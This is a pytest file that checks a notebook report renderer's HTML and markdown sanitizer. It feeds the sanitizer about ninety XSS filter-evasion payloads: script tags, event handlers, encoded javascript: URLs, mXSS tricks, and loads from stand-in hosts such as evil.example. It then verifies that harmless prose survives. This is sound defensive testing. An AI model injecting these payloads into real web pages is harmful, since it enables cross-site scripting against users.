"""Outputs' HTML and markdown reach the report harmless, and our own prose reaches it unchanged.

The attack list follows the classic XSS filter-evasion families (OWASP cheat
sheet): script in every disguise, event handlers, dangerous URL schemes and
their encodings, embedding and navigation elements, CSS, and parser-confusion
(mXSS) tricks. Every vector goes through the real report pipeline and the
final page is checked by a real HTML parser, not by string matching.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from opsnb.runner import report

NOTEBOOKS = sorted((Path(__file__).resolve().parents[2] / "notebooks").glob("*.ipynb"))

# Payloads shown as HTML (text/html outputs). Each must come out without
# anything that runs script, fetches a URL or navigates to a script URL.
HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<script></script>ipt>alert(1)</script>",
    "<script/xss src=https://evil.example/x.js></script>",
    '<<script>alert("x");//<</script>',
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1)">',
    "<IMG SRC=`javascript:alert(1)`>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="https://tracker.example/p.gif">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="x" srcset="https://evil.example/a.png 1x">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<base href="javascript:alert(1)//">',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    '<video poster="javascript:alert(1)"><source onerror="alert(1)"></video>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-image: url(&quot;https://evil.example/i.png&quot;)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="x:\\65 xpression(alert(1))">x</div>',
    "<style>@import url('https://evil.example/a.css');</style>",
    "<style>body{background:url(https://evil.example/i.png)}</style>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="https://evil.example/i.png">x</td>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<title><img src="</title><img src=x onerror=alert(1)>"></title>',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    '<div id="cell-0" class="badge PASS" onmouseover="alert(1)">spoof</div>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    "<isindex action=javascript:alert(1) type=image>",
    '<applet code="x.class"></applet>',
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="  &#x20;javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<div><svg><style><img src=x onerror=alert(1)></style></svg></div>",
]

# Payloads written as markdown (markdown cells and text/markdown outputs):
# every HTML vector above, plus markdown's own link and image syntaxes.
MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/p.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
]

# Inline figures are the one data: URL a report keeps.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

FETCHED_ON_LOAD = {"src", "data", "poster", "background", "srcset"}
URL_ATTRIBUTES = FETCHED_ON_LOAD | {"href", "action", "formaction", "xlink:href"}
FORBIDDEN_ELEMENTS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "link",
    "base",
    "svg",
    "math",
    "template",
    "noscript",
    "isindex",
}
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]")
_CSS_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})\s?|\\(.)")


def _css_char(match: re.Match[str]) -> str:
    """CSS escapes as the browser reads them: \\65 is "e", \\x is "x"."""
    return chr(int(match.group(1), 16)) if match.group(1) else match.group(2)


_CSS_FETCH_OR_RUN = ("url(", "expression(", "@import", "behavior:", "-moz-binding", "javascript:")


def url_is_safe(name: str, value: str) -> bool:
    """What a browser would make of the URL: decoded, control characters and spaces gone, lowercased."""
    plain = _INVISIBLE.sub("", html.unescape(value)).lower()
    if name in FETCHED_ON_LOAD:
        # Stricter than "a known scheme": a report loads nothing from the network,
        # so what a page fetches by itself may only be an inline PNG or JPEG.
        return plain.startswith(
            ("data:image/png;", "data:image/png,", "data:image/jpeg;", "data:image/jpeg,")
        )
    scheme = re.match(r"([^/?#:]*):", plain)
    return scheme is None or scheme.group(1) in {"http", "https", "mailto"}


class Inspector(HTMLParser):
    """Everything dangerous in a page, each problem tagged with the report section it is in."""

    def __init__(self, whole_page: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.whole_page = whole_page
        self.in_body = not whole_page
        self.section = "page"
        self.problems: list[tuple[str, str]] = []

    def _problem(self, what: str) -> None:
        self.problems.append((self.section, what))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "body":
            self.in_body = True
        if tag == "section":
            self.section = values.get("id", "section")
        if tag in FORBIDDEN_ELEMENTS:
            self._problem(f"<{tag}> element")
        if tag == "meta" and (self.in_body or set(values) != {"charset"}):
            self._problem("<meta> other than charset")
        if tag == "style" and self.in_body:
            self._problem("<style> in the body")
        for name, value in values.items():
            if name.startswith("on"):
                self._problem(f"<{tag} {name}> event handler")
            elif name == "srcdoc":
                self._problem(f"<{tag} srcdoc>")
            elif name in URL_ATTRIBUTES and not url_is_safe(name, value):
                self._problem(f"<{tag} {name}={value!r}>")
            elif name == "style":
                css = _INVISIBLE.sub("", _CSS_ESCAPE.sub(_css_char, html.unescape(value))).lower()
                if any(bad in css for bad in _CSS_FETCH_OR_RUN):
                    self._problem(f"<{tag} style={value!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "section":
            self.section = "page"


def problems_in(markup: str, whole_page: bool = False) -> list[tuple[str, str]]:
    inspector = Inspector(whole_page)
    inspector.feed(markup)
    inspector.close()
    return inspector.problems


class TextOnly(HTMLParser):
    """The text a reader sees, character references decoded."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def visible_text(markup: str) -> str:
    parser = TextOnly()
    parser.feed(markup)
    parser.close()
    return html.unescape("".join(parser.parts))


def manifest() -> dict:
    """The keys report.render reads, as evidence.py writes them."""
    return {
        "run_id": "r1",
        "runbook": "xss-sweep",
        "env": "test",
        "incident": None,
        "parameters": {},
        "user": "u",
        "host": "h",
        "started_at": "2026-01-01T00:00:00+00:00",
        "ended_at": "2026-01-01T00:00:01+00:00",
        "duration_s": 1.0,
        "outcome": "PASS",
        "highest_severity": None,
        "opsnb_version": "0",
        "findings": [],
        "actions": [],
        "error": "",
        "failed_cell": None,
    }


def hostile_notebook() -> tuple[nbformat.NotebookNode, dict[str, str]]:
    """One cell per delivery of one vector; returns the notebook and what each cell id carries."""
    nb = nbformat.v4.new_notebook()
    carried: dict[str, str] = {}

    def add(cell: nbformat.NotebookNode, what: str) -> None:
        carried[f"cell-{len(nb.cells)}"] = what
        nb.cells.append(cell)

    for vector in HTML_VECTORS:
        out = nbformat.v4.new_output("display_data", data={"text/html": vector, "text/plain": "x"})
        add(nbformat.v4.new_code_cell("show()", outputs=[out]), f"text/html {vector!r}")
    for vector in HTML_VECTORS + MARKDOWN_VECTORS:
        add(nbformat.v4.new_markdown_cell(vector), f"markdown cell {vector!r}")
        out = nbformat.v4.new_output("display_data", data={"text/markdown": vector})
        add(nbformat.v4.new_code_cell("show()", outputs=[out]), f"text/markdown {vector!r}")
    figure = nbformat.v4.new_output("display_data", data={"image/png": PNG})
    add(nbformat.v4.new_code_cell("plot()", outputs=[figure]), "a plot")
    return nb, carried


def test_sweep_through_the_report_pipeline() -> None:
    nb, carried = hostile_notebook()
    page = report.render(manifest(), nb)
    problems = problems_in(page, whole_page=True)
    leaked_cells = {section for section, _ in problems}
    tried = len(carried) - 1  # the plot is not an attack
    leaked = len(leaked_cells)
    refused = tried - len(leaked_cells & set(carried))
    print(
        f"\nXSS sweep: {len(HTML_VECTORS)} HTML + {len(MARKDOWN_VECTORS)} markdown vectors, "
        f"{tried} deliveries tried, {refused} refused, {leaked} leaked"
    )
    for section, what in problems:
        print(f"  LEAK in {section} ({carried.get(section, 'report frame')}): {what}")
    assert len(HTML_VECTORS) + len(MARKDOWN_VECTORS) >= 40
    assert tried >= 40
    assert leaked == 0, problems
    assert f'src="data:image/png;base64,{PNG}"' in page  # plots still show


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_each_html_vector_is_refused(vector: str) -> None:
    cleaned = report.sanitize_html(vector)
    assert problems_in(cleaned) == [], cleaned


@pytest.mark.parametrize("vector", HTML_VECTORS + MARKDOWN_VECTORS)
def test_each_markdown_vector_is_refused(vector: str) -> None:
    cleaned = report._markdown(vector)
    assert problems_in(cleaned) == [], cleaned


def test_the_inspector_sees_what_it_looks_for() -> None:
    """The sweep proves nothing if the checker is blind: raw vectors must trip it."""
    missed = [v for v in HTML_VECTORS if not problems_in(v)]
    # Only the split-tag tricks, whose harm depends on a sanitizer removing the
    # inner tag, pass the checker raw.
    assert all(v.startswith("<scr<script>") for v in missed), missed
    assert problems_in('<a href="&#106;avascript:alert(1)">x</a>')
    assert problems_in('<a href="java\tscript:alert(1)">x</a>')
    assert problems_in('<img src="data:image/svg+xml;base64,AAAA">')
    assert not problems_in(f'<img src="data:image/png;base64,{PNG}"><a href="#cell-1">x</a>')


# -- what must survive ----------------------------------------------------------------------------


def test_dataframe_html_keeps_its_table() -> None:
    pandas = pytest.importorskip("pandas")
    frame = pandas.DataFrame({"query": ["SELECT 1 WHERE a < b"], "calls": [3]})
    cleaned = report.sanitize_html(frame._repr_html_())
    assert '<table border="1" class="dataframe">' in cleaned
    assert "<th>query</th>" in cleaned and "<td>SELECT 1 WHERE a &lt; b</td>" in cleaned
    assert "<style" not in cleaned and ".dataframe tbody" not in cleaned  # pandas' scoped CSS goes whole


def test_safe_links_and_figures_survive() -> None:
    kept = report.sanitize_html(
        '<a href="https://status.example/x?a=1&amp;b=2">s</a><a href="mailto:ops@example.com">m</a>'
        f'<a href="#cell-3">c</a><a href="runs/r1.html">r</a><img alt="f" src="data:image/jpeg;base64,{PNG}">'
    )
    assert 'href="https://status.example/x?a=1&amp;b=2"' in kept
    assert 'href="mailto:ops@example.com"' in kept
    assert 'href="#cell-3"' in kept and 'href="runs/r1.html"' in kept
    assert f'src="data:image/jpeg;base64,{PNG}"' in kept


PROSE = [
    "Check NEXTAUTH_URL (AUTH_URL in v5) before anything else.",
    "The CSS function url(...) and `background: url(https://x.example/a.png)` are just words here.",
    "A page with `<body onload=init()>` or the prose onload=init() handler shows as text.",
    "A comparison in code: `if lag < 10 and age > 5:` and `a<b`, `x >= y`.",
    "Plain text 3 < 4 and 5 > 2, AT&T, &amp; stays, <script>alert(1)</script> stays as text.",
    "javascript:alert(1) written in prose, and expression(alert(1)) too.",
    "- item with `psql -c 'SELECT 1'`\n- **bold** and _em_ and ~~gone~~\n\n> quote with <b>tags</b>",
    "| setting | value |\n|---|---|\n| AUTH_URL | `https://shop.example/api/auth` |",
    "```\nSELECT * FROM t WHERE x < 5 AND y <> 'a' -- <script>\n```",
]


@pytest.mark.parametrize("text", PROSE)
def test_honest_text_is_not_altered(text: str) -> None:
    rendered = report.render_markdown(text)
    cleaned = report._markdown(text)
    assert visible_text(cleaned) == visible_text(rendered)
    for must in ("NEXTAUTH_URL (AUTH_URL in v5)", "url(", "onload=", "a<b", "lag < 10"):
        if must in text:
            assert must in visible_text(cleaned)


def test_notebook_prose_reaches_the_page() -> None:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(text) for text in PROSE]
    page = visible_text(report.render(manifest(), nb))
    assert "Check NEXTAUTH_URL (AUTH_URL in v5) before anything else." in page
    assert "background: url(https://x.example/a.png)" in page
    assert "onload=init()" in page and "if lag < 10 and age > 5:" in page


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.name)
def test_runbook_markdown_keeps_every_word(path: Path) -> None:
    nb = nbformat.read(path, as_version=4)
    cells = [cell for cell in nb.cells if cell.cell_type == "markdown"]
    assert cells, f"{path.name} has no markdown"
    for cell in cells:
        rendered = report.render_markdown(cell.source)
        cleaned = report._markdown(cell.source)
        assert visible_text(cleaned) == visible_text(rendered), cell.source
        words = re.findall(r"[A-Za-z0-9_]{3,}", visible_text(rendered))
        shown = visible_text(cleaned)
        assert all(word in shown for word in words)


def test_notebooks_are_found() -> None:
    assert len(NOTEBOOKS) >= 5
